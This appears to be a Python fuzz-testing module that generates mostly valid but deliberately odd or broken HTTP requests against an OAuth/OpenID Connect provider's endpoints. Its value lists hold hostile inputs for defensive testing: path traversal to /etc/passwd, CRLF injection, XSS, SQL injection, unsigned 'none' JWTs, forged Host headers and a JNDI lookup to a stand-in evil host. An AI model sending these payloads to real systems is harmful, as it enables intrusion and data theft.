"""HTTP requests out of a grammar: mostly sound, always odd somewhere, some broken on purpose.

Request number n of a seed is always the same, whatever came before it, so that one that did harm
can be sent again alone. Values that only a running provider can give, such as the sealed state of a
login form, are written as `{state}` and filled in when it is sent.
"""

import random
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import TypeVar
from urllib.parse import quote, quote_plus

from tests.fuzz.damage import damaged

T = TypeVar("T")
Pairs = tuple[tuple[str, str], ...]

GET_PATHS = (
    "/", "/auth", "/auth/local", "/userinfo", "/healthz", "/keys",
    "/.well-known/openid-configuration", "/.well-known/oauth-authorization-server",
)  # fmt: skip
POST_PATHS = (
    "/auth", "/auth/local", "/auth/local/login", "/approval", "/token", "/token/revoke",
    "/token/introspect", "/userinfo",
)  # fmt: skip
_NO_PATHS = (
    "/nowhere", "/token/", "//token", "/auth/", "/auth/ghost", "/auth/local/login/", "/%61uth",
    "/auth/../keys", "/./auth", "/auth%2flocal", "/auth/local%00", "/auth/%0d%0aX-Injected:1",
    "/static/main.css", "/static/../../etc/passwd", "/auth;a=b", "/" + "a" * 5000, "/é", "*", "",
    "auth", "http://127.0.0.1/auth", "http://evil.example/token", "evil.example:443", "/auth#x",
    "/auth/" + "a/" * 200, "/auth/%ff", "/auth/%", "/\\evil.example", "/approval?", "/token?x=%zz",
)  # fmt: skip
_METHODS = ("GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "QUERY",
            "get", "G\tT", "", "POST\0", "X" * 300)  # fmt: skip
_NAMES = (
    "client_id", "redirect_uri", "response_type", "response_mode", "scope", "state", "nonce",
    "prompt", "max_age", "id_token_hint", "login_hint", "connector_id", "code_challenge", "request",
    "code_challenge_method", "request_uri", "registration", "req", "grant_type", "code", "token",
    "code_verifier", "refresh_token", "client_secret", "token_type_hint", "access_token", "login",
    "password", "approval", "claims", "display", "ui_locales", "acr_values", "assertion", "back",
    "client_assertion", "client_assertion_type", "username", "audience", "resource", "",
)  # fmt: skip
_VALUES = (
    "app", "cli", "http://localhost:8000", "https://app.example.com/callback", "code", "id_token",
    "code id_token token", "token", "query", "fragment", "form_post", "openid email groups", "none",
    "login", "consent", "0", "-1", "99999999999", "local", "S256", "plain", "authorization_code",
    "refresh_token", "client_credentials", "password", "{client}", "{secret}",
    "alice@example.com", "approve", "reject", "{state}", "{approval}", "{code}", "{refresh_token}",
    "{access_token}", "{id_token}", "{verifier}", "{challenge}", "access_token",
    "https://evil.example/", "//evil.example", "javascript:alert(1)", "<script>alert(1)</script>",
    "\r\nX-Injected: 1", "\0", "\x1b[31m", "日本", "é", "%00", "%ff", "' OR 1=1 --", "../../x",
    "{}", "[]", '{"a":' * 50, "e30.e30.", "eyJhbGciOiJub25lIn0.e30.", "a.b.c.d.e", "\ud7ff", "",
    "true", "null", "1e999", "${jndi:ldap://evil.example}", "A" * 3000, " ",
    "audience:server:client_id:x",
)  # fmt: skip
_GOOD_AUTHORIZATION = (
    ("client_id", "app"), ("redirect_uri", "https://app.example.com/callback"),
    ("response_type", "code"), ("scope", "openid email"), ("state", "s"), ("nonce", "n"),
)  # fmt: skip
_CLIENT = (("client_id", "{client}"), ("client_secret", "{secret}"))
_GRANTS = (
    (("grant_type", "authorization_code"), ("code", "{code}"), ("code_verifier", "{verifier}"),
     ("redirect_uri", "http://localhost:8000"), ("client_id", "cli")),
    (("grant_type", "refresh_token"), ("refresh_token", "{refresh_token}"), ("client_id", "cli")),
    (("grant_type", "client_credentials"), ("scope", "groups"), *_CLIENT),
)  # fmt: skip
_TOKENS = ((("token", "{refresh_token}"), *_CLIENT), (("token", "{access_token}"), *_CLIENT))
_AUTHORIZATIONS = (
    _GOOD_AUTHORIZATION,
    (*_GOOD_AUTHORIZATION, ("response_mode", "form_post")),
    (*_GOOD_AUTHORIZATION, ("code_challenge", "{challenge}"), ("code_challenge_method", "S256")),
    (*_GOOD_AUTHORIZATION[:2], ("response_type", "code id_token token"), *_GOOD_AUTHORIZATION[3:]),
)
_GOOD: Mapping[str, tuple[Pairs, ...]] = {
    "/auth": _AUTHORIZATIONS,
    "/auth/local": _AUTHORIZATIONS,
    "/auth/local/login": (
        (("login", "mallory@example.com"), ("password", "wrong"), ("state", "{state}")),
        (("login", "alice@example.com"), ("password", "{password}"), ("state", "{state}")),
    ),
    "/approval": (
        (("state", "{approval}"), ("approval", "approve")),
        (("state", "{approval}"), ("approval", "reject")),
    ),
    "/token": _GRANTS,
    "/token/revoke": _TOKENS,
    "/token/introspect": _TOKENS,
    "/userinfo": ((("access_token", "{access_token}"),), ()),
}
_ANY = tuple(form for forms in _GOOD.values() for form in forms)
_HEADER_NAMES = (
    "Accept", "Accept-Encoding", "Authorization", "Cookie", "Origin", "Referer", "Sec-Fetch-Site",
    "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded", "Range",
    "If-None-Match",
    "Te", "Via", "X-HTTP-Method-Override",
    "Accept-Language", "User-Agent", "Max-Forwards", "X-Request-Id", "DPoP", "Content-Language",
)  # fmt: skip
_HEADER_VALUES = (
    "*/*", "text/html", "application/json", "gzip, br;q=0", "Basic YXBwOngA", "Basic ====",
    "Basic Z2hvc3Q6Z2hvc3Q=", "Bearer {access_token}",
    "Bearer x", "bearer", "Bearer a b", "Digest x", "{cookie}", "a=b; c=d", "=;=;", "null",
    "https://app.example.com", "https://evil.example", "cross-site", "same-origin", "127.0.0.1",
    "for=evil;host=evil.example", "evil.example", "bytes=0-,0-,0-", "W/\"x\"", "*",
    "trailers", "DELETE", "deflate", "en;q=2", "a" * 2000,
    "\t x \t", "é", "",
)  # fmt: skip
_ODD_LINES = (
    "No colon", ": x", " folded: x", "X\0: y", "X: a\0b", "A: b\r c", "X-" + "y" * 9000 + ": z",
    "Content-Encoding: gzip", "Expect: 100-continue", "Expect: x", "Upgrade: h2c",
    "Connection: upgrade", "Connection: close", "Connection: keep-alive, x", "A: \x7f",
)  # fmt: skip
_MEDIA_TYPES = (
    "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-16",
    "application/json", "multipart/form-data; boundary=x", "text/plain", "", "x", "application/jwt",
)  # fmt: skip


_SOUND = re.compile(
    rb"(?:GET|HEAD|POST|PUT|DELETE|PATCH) /[!-~]* HTTP/1\.1\r\n"
    rb"(?:(?!Expect|Upgrade|Connection|Content-Encoding)[A-Za-z0-9-]+: [ -~]*\r\n)+\r\n"
)


@dataclass(frozen=True, slots=True)
class Request:
    """Bytes to send, in which `{names}` are yet to be filled in.

    A `broken` one may leave its reader waiting for more, so whoever sends it says that nothing
    more will come. A `sound` one leaves its connection fit for the next.
    """

    number: int
    path: str
    start: bytes
    body: bytes
    broken: bool
    is_head: bool

    @property
    def sound(self) -> bool:
        """Return whether nothing in it could make a reader lose its place."""
        return not self.broken and _SOUND.fullmatch(self.start) is not None


@dataclass(frozen=True, slots=True)
class Grammar:
    """All requests of one seed, to one host."""

    seed: int
    host: str

    def request(self, number: int) -> Request:
        """Return a request by its number."""
        draw = random.Random(f"{self.seed}/{number}")
        method, path, pairs = _what(draw)
        target = path + _query(draw, pairs if method in ("GET", "HEAD") else ())
        body = b"" if method in ("GET", "HEAD") else _body(draw, pairs)
        headers = [*_host(draw, self.host), *_headers(draw)]
        framed, sent = _framing(draw, body, wanted=method not in ("GET", "HEAD"))
        version = _rarely(
            draw, "HTTP/1.1", ("HTTP/1.0", "HTTP/2.0", "HTTP/0.9", "HTTP/1.1 ", "x", "")
        )
        start = _lines([f"{method} {target} {version}", *headers, *framed])
        broken = draw.random() < 0.12
        if broken:
            start, sent = damaged(draw, start, sent)
        return Request(number, path, start, sent, broken, is_head=method == "HEAD")


def _what(draw: random.Random) -> tuple[str, str, Pairs]:
    """Return method, path and parameters: in most cases such that an endpoint is reached."""
    kind = draw.random()
    if kind < 0.35:
        method, path = draw.choice(("GET", "GET", "HEAD")), draw.choice(GET_PATHS)
    elif kind < 0.85:
        method, path = "POST", draw.choice(POST_PATHS)
    else:
        method, path = draw.choice(_METHODS), draw.choice((*GET_PATHS, *POST_PATHS, *_NO_PATHS))
    forms = _GOOD.get(path, ((),)) if draw.random() < 0.9 else _ANY
    return method, path, _changed(draw, draw.choice(forms))


def _changed(draw: random.Random, good: Pairs) -> Pairs:
    """Return parameters with a few of them changed, left out, doubled or added."""
    pairs = list(good)
    for _ in range(draw.choice((0, 0, 1, 1, 1, 2, 3, 8))):
        pair = (draw.choice(_NAMES), draw.choice(_VALUES))
        change = draw.random()
        if pairs and change < 0.4:
            place = draw.randrange(len(pairs))
            pairs[place] = (pairs[place][0], pair[1])
        elif pairs and change < 0.55:
            del pairs[draw.randrange(len(pairs))]
        elif pairs and change < 0.7:
            pairs.append(draw.choice(pairs))
        else:
            pairs.insert(draw.randint(0, len(pairs)), pair)
    if draw.random() < 0.01:
        pairs = pairs * 30
    return tuple(pairs)


def _encoded(draw: random.Random, pairs: Pairs) -> str:
    """Return a form; now and then with characters that should have been encoded."""
    escape: Callable[[str], str] = _rarely(draw, _as_forms_do, (_as_it_is, _half_encoded))
    # The names of what is filled in later must stay as they are.
    return "&".join(f"{escape(name)}={_kept(escape, value)}" for name, value in pairs)


def _as_forms_do(text: str) -> str:
    return quote_plus(text)


def _as_it_is(text: str) -> str:
    return text


def _half_encoded(text: str) -> str:
    return quote(text, safe="/:=&")


def _kept(escape: Callable[[str], str], value: str) -> str:
    return value if value.startswith("{") and value.endswith("}") else escape(value)


def _query(draw: random.Random, pairs: Pairs) -> str:
    if not pairs:
        return _rarely(draw, "", ("?", "?&&&=", "?a", "?%ff=%00", "?code=x", "?" + "a=b&" * 70))
    return "?" + _encoded(draw, pairs)


def _body(draw: random.Random, pairs: Pairs) -> bytes:
    odd = (
        b"", b"\0" * 100, b"%", b"&" * 500, b"=", b'{"grant_type":"client_credentials"}',
        b"\xff\xfe", b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--',
        b"a=" + b"b" * 40_000, b"a=" + b"b" * 70_000, b"a=b&" * 5000, b"[" * 3000, b"a" * 65_536,
    )  # fmt: skip
    return _rarely(draw, _encoded(draw, pairs).encode("utf-8", "surrogatepass"), odd)


def _host(draw: random.Random, host: str) -> list[str]:
    good = [f"Host: {host}"]
    odd: tuple[list[str], ...] = (
        [], [*good, *good], ["Host: evil.example"], ["Host:"], [f"Host: {host}."], ["host : x"],
        [f"HOST: {host}"], [f"Host: {host}\0"], [f"Host: x@{host}"],
    )  # fmt: skip
    return _rarely(draw, good, odd)


def _headers(draw: random.Random) -> list[str]:
    count = draw.choice((0, 0, 1, 2, 4))
    lines = [f"{draw.choice(_HEADER_NAMES)}: {draw.choice(_HEADER_VALUES)}" for _ in range(count)]
    if draw.random() < 0.3:
        lines.append("Cookie: {cookie}")
        lines.append("Origin: {origin}")
    if draw.random() < 0.05:
        lines.append(draw.choice(_ODD_LINES))
    if draw.random() < 0.01:
        lines += [f"X-{number}: {number}" for number in range(draw.choice((50, 98, 150)))]
    return lines


def _framing(draw: random.Random, body: bytes, *, wanted: bool) -> tuple[list[str], bytes]:
    """Return the headers that say how long a body is, and the body as it is sent."""
    if not wanted:
        return [], b""
    lines = [f"Content-Type: {_rarely(draw, _MEDIA_TYPES[0], _MEDIA_TYPES)}"]
    if draw.random() < 0.1:
        return [*lines, "Transfer-Encoding: chunked"], _chunked(draw, body)
    # The length of what is filled in is not known here: the sender writes it.
    return [*lines, "Content-Length: {length}"], body


def _chunked(draw: random.Random, body: bytes) -> bytes:
    # Nothing in these bodies may be filled in, as that would change their lengths.
    body = body.replace(b"{", b"")
    size = draw.choice((1 + len(body), 7, 4096))
    chunks = [body[start : start + size] for start in range(0, len(body), size)]
    extension = _rarely(draw, "", (";x=y", ";" + "a" * 300))
    return (
        b"".join(f"{len(c):x}{extension}\r\n".encode() + c + b"\r\n" for c in chunks) + b"0\r\n\r\n"
    )


def _rarely(draw: random.Random, usual: T, odd: Sequence[T]) -> T:
    """Return what is usual, and one time in ten something else."""
    return draw.choice(odd) if draw.random() < 0.1 else usual


def _lines(lines: Sequence[str]) -> bytes:
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8", "surrogatepass")
